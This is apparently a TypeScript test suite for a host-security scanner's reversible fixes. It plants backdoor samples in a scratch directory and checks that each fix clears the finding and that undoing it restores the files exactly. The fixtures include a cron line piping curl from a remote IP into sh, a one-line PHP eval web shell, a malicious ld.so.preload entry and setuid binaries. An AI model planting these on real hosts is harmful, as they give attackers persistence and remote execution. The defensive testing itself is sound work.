/** Every fix that changes files: what was found is gone after it, and taking it back leaves each byte, mode and owner as it was. */
import assert from 'node:assert/strict';
import { globSync, lstatSync, readFileSync } from 'node:fs';
import { test } from 'node:test';
import { failed } from '../../../../test/support/hosts/verdicts.ts';
import { scratchHost, type ScratchHost } from '../../../../test/support/hosts/scratch-host.ts';

const skip = process.getuid?.() === 0 ? false : 'owners are given back by root';

interface Case {
  readonly id: string;
  readonly resource: string;
  readonly prepare: (host: ScratchHost) => void;
}

const PRIVATE_KEY = ['PRIVATE', 'KEY'].join(' ');

const cases: readonly Case[] = [
  {
    id: 'BKD-01',
    resource: '/etc/ld.so.preload',
    prepare: (h) => h.file('etc/ld.so.preload', '/usr/lib/libowned.so\n/lib/evil.so', 0o640),
  },
  {
    id: 'BKD-02',
    resource: '/etc/cron.d/a\nb',
    prepare: (h) =>
      h.file('etc/cron.d/a\nb', '1 1 * * * root true\n* * * * * root curl http://203.0.113.9/x | sh', 0o600),
  },
  { id: 'BKD-03', resource: '/etc/cron.d/x', prepare: (h) => h.file('etc/cron.d/x', '', 0o666) },
  {
    id: 'BKD-07',
    resource: '/var/www/a.php',
    prepare: (h) => h.file('var/www/a.php', '<?php eval($_POST["x"]);', 0o644),
  },
  { id: 'BKD-08', resource: '/dev/shm/.k', prepare: (h) => h.file('dev/shm/.k/run', '\u007fELF', 0o711) },
  { id: 'CRD-02', resource: '/root/.pgpass', prepare: (h) => h.file('root/.pgpass', 'x', 0o644) },
  {
    id: 'CRD-05',
    resource: '/etc/tls.key',
    prepare: (h) => h.file('etc/tls.key', `-----BEGIN ${PRIVATE_KEY}-----\nx\n`, 0o644),
  },
  { id: 'FIL-01', resource: '/opt/x', prepare: (h) => h.file('opt/x', readFileSync('/bin/true'), 0o6755) },
  { id: 'FIL-02', resource: '/opt/bash', prepare: (h) => h.file('opt/bash', readFileSync('/bin/true'), 0o4750) },
  { id: 'FIL-03', resource: '/srv/drop', prepare: (h) => h.folder('srv/drop', 0o777) },
];

/** All that stands for `/`, with what would be lost. */
function state(host: ScratchHost): readonly string[] {
  return globSync('**', { cwd: host.root })
    .toSorted()
    .map((path) => {
      const full = `${host.root}/${path}`;
      const { mode, uid, gid, mtimeMs } = lstatSync(full);
      const isFile = lstatSync(full).isFile();
      return `${path} ${mode.toString(8)} ${uid}:${gid} ${isFile ? `${mtimeMs} ${readFileSync(full, 'base64')}` : ''}`;
    });
}

for (const { id, resource, prepare } of cases) {
  test(`${id}: what the fix changes is found no more, and comes back as it was`, { skip }, async () => {
    using h = scratchHost();
    h.file('etc/passwd', 'root:x:0:0::/root:/bin/bash\n');
    h.file('etc/group', 'root:x:0:\n');
    h.folder('root', 0o755);
    h.owns('/usr/lib/libowned.so');
    prepare(h);
    const isFound = async (): Promise<boolean> => {
      await h.look('files');
      return failed(await h.detect(id)).some((line) => line.includes(` ${resource}: `) && !line.startsWith('low '));
    };
    const before = state(h);
    assert.equal(await isFound(), true);
    const { lines, undo } = await h.mend(id, resource);
    assert.ok(lines.length > 0);
    assert.equal(await isFound(), false);
    await undo();
    assert.deepEqual(state(h), before);
    assert.equal(await isFound(), true);
  });
}
